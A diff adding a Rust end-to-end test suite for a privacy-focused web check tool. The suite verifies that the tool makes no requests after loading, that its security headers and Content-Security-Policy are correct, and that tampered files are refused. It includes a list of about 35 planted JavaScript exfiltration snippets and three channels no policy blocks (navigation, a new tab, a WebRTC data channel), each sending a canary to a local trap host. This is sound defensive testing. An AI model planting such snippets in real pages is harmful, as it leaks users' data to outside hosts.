@@ -1,0 +1,367 @@
+//! Nothing leaves: a whole journey behind a real web server, and everything that a hostile script in
+//! the page could try.
+
+#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]
+
+use std::fs;
+use std::path::Path;
+
+use e2e::{Environment, Nginx, Screen, Scripts, Server, Session, Trap, Vignette, Walk, words};
+use fantoccini::Locator;
+use serde_json::{Value, json};
+
+const STORY: &str = "09-street-fentanyl-overdose-no-safe-place";
+
+/// What a planted script would like to get out.
+const CANARY: &str = "canary-answer";
+
+#[test]
+fn a_whole_journey_asks_for_nothing_after_the_start() {
+    let story = Vignette::read(STORY);
+    let nginx = Nginx::start(&Environment::read().dist);
+    let session = Session::start(Scripts::On);
+    let mut walk = Walk::begin(&session, &nginx.url("/"), &story);
+    let at_server = nginx.requests().len();
+    assert!(at_server > 5, "{:?}", nginx.requests());
+    // The counting counts: the start was seen by all three.
+    assert!(session.network().iter().any(|url| url.ends_with(".wasm")));
+    let loaded = |session: &Session| -> usize {
+        session.read("return performance.getEntriesByType('resource').length")
+    };
+    let at_page = loaded(&session);
+    assert!(at_page > 4, "{at_page}");
+
+    walk.on_to(|screen| screen.has_button(words().phrases.change_answers));
+    let later = &nginx.requests()[at_server..];
+    assert!(later.is_empty(), "at the server: {later:?}");
+    assert_eq!(session.network(), [""; 0], "in the browser");
+    assert_eq!(loaded(&session), at_page, "by the page's own account");
+    let mut console = session.console();
+    console.retain(|line| line.level != "INFO" && line.level != "DEBUG");
+    assert!(console.is_empty(), "{console:?}");
+}
+
+#[test]
+fn every_file_comes_with_the_headers_and_every_page_with_its_policy() {
+    let nginx = Nginx::start(&Environment::read().dist);
+    let session = Session::start(Scripts::On);
+    session.visit(&nginx.url("/method.html"));
+    for page in ["/", "/send.html", "/method.html", "/workbench.html"] {
+        // From outside the page, which may not ask.
+        let head = head_of(&nginx.url(page));
+        let policy = &head["content-security-policy"];
+        assert!(
+            policy.starts_with("default-src 'none'; "),
+            "{page} {policy}"
+        );
+        assert!(policy.contains("frame-ancestors "), "{page} {policy}");
+        assert_eq!(head["referrer-policy"], "no-referrer", "{page}");
+        assert_eq!(head["x-content-type-options"], "nosniff", "{page}");
+        assert_eq!(head["cache-control"], "no-cache", "{page}");
+        assert!(head["permissions-policy"].contains("camera=()"), "{page}");
+        // What stands in the page says the same, but for what only a header can say.
+        session.visit(&nginx.url(page));
+        let in_page: String = session.read(
+            "return document.querySelector('meta[http-equiv=Content-Security-Policy]').content",
+        );
+        assert!(policy.starts_with(&in_page), "{page}: {in_page}");
+    }
+    let hashed = hashed(&Environment::read().dist, ".wasm");
+    let head = head_of(&nginx.url(&format!("/{hashed}")));
+    assert_eq!(head["cache-control"], "public, max-age=31536000, immutable");
+    assert_eq!(head["content-type"], "application/wasm");
+    assert_eq!(head["access-control-allow-origin"], "*");
+    let console = session.console();
+    assert!(
+        console.iter().all(|line| line.level == "INFO"),
+        "the browser does not understand a header: {console:?}"
+    );
+}
+
+/// Ways out that the policy closes. Each is tried on a stranger's host; those that a page usually has
+/// to its own server, there as well.
+const PLANTED: &[(&str, &str)] = &[
+    (
+        "a request",
+        "fetch(to, { mode: 'no-cors' }).catch(() => {});",
+    ),
+    (
+        "a request to the own server",
+        "fetch(home).catch(() => {});",
+    ),
+    ("a beacon", "navigator.sendBeacon(to, 'x');"),
+    (
+        "a beacon to the own server",
+        "navigator.sendBeacon(home, 'x');",
+    ),
+    (
+        "an old request",
+        "try { const r = new XMLHttpRequest(); r.open('GET', to); r.onerror = () => {}; r.send(); } catch {}",
+    ),
+    (
+        "a socket",
+        "try { new WebSocket('ws://' + host + '/' + canary); } catch {}",
+    ),
+    ("a stream of events", "new EventSource(to);"),
+    ("an image", "new Image().src = to;"),
+    ("an image of the own server", "new Image().src = home;"),
+    ("a sound", "new Audio(to).load();"),
+    ("a style sheet", "link('stylesheet');"),
+    (
+        "a style sheet of the own server",
+        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = home; document.head.append(l);",
+    ),
+    (
+        "a font",
+        "const f = new FontFace('x', `url(${to})`); f.load().catch(() => {});",
+    ),
+    ("a prefetch", "link('prefetch');"),
+    (
+        "a preload",
+        "const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = to; document.head.append(l);",
+    ),
+    ("a module preload", "link('modulepreload');"),
+    ("an icon", "link('icon');"),
+    ("a manifest", "link('manifest');"),
+    (
+        "a frame of the own server",
+        "const f = document.createElement('iframe'); f.src = home; document.body.append(f);",
+    ),
+    (
+        "a frame",
+        "const f = document.createElement('iframe'); f.src = to; document.body.append(f);",
+    ),
+    (
+        "an object",
+        "const o = document.createElement('object'); o.data = to; document.body.append(o);",
+    ),
+    (
+        "an embedded thing",
+        "const o = document.createElement('embed'); o.src = to; document.body.append(o);",
+    ),
+    (
+        "a form",
+        "const f = document.createElement('form'); f.action = to; f.method = 'post'; f.target = 'elsewhere'; document.body.append(f); f.submit();",
+    ),
+    (
+        "a form to the own server",
+        "const f = document.createElement('form'); f.action = home; document.body.append(f); f.submit();",
+    ),
+    ("a worker", "try { new Worker(home); } catch {}"),
+    (
+        "a shared worker",
+        "try { new SharedWorker(home); } catch {}",
+    ),
+    (
+        "a script",
+        "try { const s = document.createElement('script'); s.src = to; document.body.append(s); } catch {}",
+    ),
+    (
+        "a script of the own server",
+        "import(home).catch(() => {});",
+    ),
+    (
+        "a base",
+        "const b = document.createElement('base'); b.href = to; document.head.append(b); fetch('./x').catch(() => {});",
+    ),
+    (
+        "a background",
+        "document.body.setAttribute('style', `background: url(${to})`);",
+    ),
+    (
+        "a style block",
+        "const s = document.createElement('style'); s.textContent = `body { background: url(${to}) }`; document.head.append(s);",
+    ),
+    (
+        "a text run as a program",
+        "try { eval(`fetch('${to}')`); } catch {}",
+    ),
+    (
+        "markup",
+        "try { document.body.insertAdjacentHTML('beforeend', `<img src='${to}'>`); } catch {}",
+    ),
+    (
+        "speculation",
+        "const s = document.createElement('script'); s.type = 'speculationrules'; try { s.text = JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }] }); document.head.append(s); } catch {}",
+    ),
+    (
+        "an animation of a picture",
+        "const s = document.createElementNS('http://www.w3.org/2000/svg', 'image'); s.setAttribute('href', to); const g = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); g.append(s); document.body.append(g);",
+    ),
+];
+
+#[test]
+fn every_planted_leak_is_refused() {
+    let trap = Trap::set();
+    let nginx = Nginx::start(&Environment::read().dist);
+    let session = begun(&nginx);
+    let before = nginx.requests().len();
+    session.network();
+    let mut got_out = Vec::new();
+    for (name, script) in PLANTED {
+        plant(&session, &nginx, &trap, script);
+        // Whatever is asked is asked before a later message of the page to itself comes back.
+        let _: bool = session.read_later(
+            "const done = arguments[0];
+             const { port1, port2 } = new MessageChannel();
+             port1.onmessage = () => done(true);
+             port2.postMessage(null);",
+            &[],
+        );
+        let asked: Vec<String> = session
+            .network()
+            .into_iter()
+            .filter(|url| url.contains(CANARY))
+            .collect();
+        let heard = trap.heard();
+        let at_home: Vec<String> = nginx
+            .requests()
+            .split_off(before)
+            .into_iter()
+            .filter(|line| line.contains(CANARY))
+            .collect();
+        if !heard.is_empty() || !at_home.is_empty() {
+            got_out.push(format!("{name}: {heard:?} {at_home:?} {asked:?}"));
+            break;
+        }
+        let here: String = session.read("return location.pathname");
+        assert_eq!(here, "/", "after {name}");
+    }
+    assert!(got_out.is_empty(), "{}", got_out.join("\n"));
+}
+
+/// The trap hears what no policy of today can refuse. The threat model admits each of these; should a
+/// browser learn to refuse one, this test fails and the page may promise more.
+#[test]
+fn what_no_policy_refuses_is_heard_by_the_trap() {
+    for (name, script) in [
+        ("a move to another page", "location.href = to;"),
+        (
+            "another tab",
+            "const a = document.createElement('a'); a.href = to; a.target = '_blank'; document.body.append(a); a.click();",
+        ),
+        (
+            "a call to another browser",
+            "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + host }] });
+             c.createDataChannel(canary); c.createOffer().then((o) => c.setLocalDescription(o));",
+        ),
+    ] {
+        let trap = Trap::set();
+        let nginx = Nginx::start(&Environment::read().dist);
+        let session = begun(&nginx);
+        plant(&session, &nginx, &trap, script);
+        session.wait_until(name, || !trap.heard().is_empty());
+    }
+}
+
+/// A file that is not the one the page was built with is not run: what can be read stays.
+#[test]
+fn a_file_that_was_changed_is_refused_and_the_help_lines_stay() {
+    let dist = Environment::read().dist;
+    for ending in [".js", "_bg.wasm"] {
+        let name = hashed(&dist, ending);
+        refuses(&dist, &name);
+    }
+    for name in ["start.js", "leave.js", "seal.js", "words/en.json"] {
+        refuses(&dist, name);
+    }
+}
+
+fn refuses(dist: &Path, name: &str) {
+    let copy = tempfile::tempdir().unwrap();
+    copy_folder(dist, copy.path());
+    let file = copy.path().join(name);
+    let mut bytes = fs::read(&file).unwrap();
+    // In a JSON list and in a script a space at the end changes nothing else.
+    bytes.push(b' ');
+    fs::write(&file, bytes).unwrap();
+    let server = Server::start(copy.path());
+    let session = Session::start(Scripts::On);
+    session.visit(&server.url("/"));
+    if name.ends_with("wasm") || name.ends_with("json") {
+        let failed = Locator::Css("#footing-failed:not([hidden])");
+        session.wait_for(&format!("{name} to be refused"), failed);
+    }
+    let phrases = &words().phrases;
+    assert!(session.text().contains(phrases.in_danger), "{name}");
+    let console = session.console();
+    let is_refused = console
+        .iter()
+        .any(|line| line.message.contains("integrity") || line.message.contains("digest"));
+    assert!(is_refused, "{name}: {console:?}");
+    let starts: bool =
+        session.read("return document.querySelector('#footing button:not([disabled])') !== null");
+    assert!(!starts, "the check runs with another {name}");
+}
+
+/// A check that has begun: the first question is there.
+fn begun(nginx: &Nginx) -> Session {
+    let story = Vignette::read(STORY);
+    let session = Session::start(Scripts::On);
+    let mut walk = Walk::begin(&session, &nginx.url("/"), &story);
+    walk.step(&Screen::read(&session));
+    session
+}
+
+fn plant(session: &Session, nginx: &Nginx, trap: &Trap, script: &str) {
+    let _: Value = session.read_with(
+        &format!(
+            "const [to, home, host, canary] = arguments;
+             const link = (rel) => {{
+                 const l = document.createElement('link');
+                 l.rel = rel; l.href = to; document.head.append(l);
+             }};
+             try {{ {script} }} catch {{}}
+             return null;"
+        ),
+        &[
+            json!(format!("http://{}/{CANARY}", trap.host())),
+            json!(nginx.url(&format!("/{CANARY}"))),
+            json!(trap.host()),
+            json!(CANARY),
+        ],
+    );
+}
+
+/// The name of the visitor's file with a hash and this ending.
+fn hashed(dist: &Path, ending: &str) -> String {
+    let names = fs::read_dir(dist).unwrap().flatten();
+    let mut names = names.filter_map(|entry| entry.file_name().into_string().ok());
+    let is_it = |name: &String| name.starts_with("footing-") && name.ends_with(ending);
+    names.find(is_it).unwrap()
+}
+
+fn copy_folder(from: &Path, to: &Path) {
+    fs::create_dir_all(to).unwrap();
+    for entry in fs::read_dir(from).unwrap().flatten() {
+        let (from, to) = (entry.path(), to.join(entry.file_name()));
+        if from.is_dir() {
+            copy_folder(&from, &to);
+        } else {
+            fs::copy(from, to).unwrap();
+        }
+    }
+}
+
+/// The headers of an answer.
+fn head_of(url: &str) -> std::collections::BTreeMap<String, String> {
+    use std::io::{Read, Write};
+    let (host, path) = url
+        .strip_prefix("http://")
+        .unwrap()
+        .split_once('/')
+        .unwrap();
+    let mut connection = std::net::TcpStream::connect(host).unwrap();
+    write!(connection, "GET /{path} HTTP/1.0\r\nHost: {host}\r\n\r\n").unwrap();
+    let mut bytes = Vec::new();
+    connection.read_to_end(&mut bytes).unwrap();
+    let text = String::from_utf8_lossy(&bytes);
+    let head = text.split("\r\n\r\n").next().unwrap();
+    let lines = head
+        .lines()
+        .skip(1)
+        .filter_map(|line| line.split_once(": "));
+    lines
+        .map(|(name, value)| (name.to_lowercase(), value.to_owned()))
+        .collect()
+}
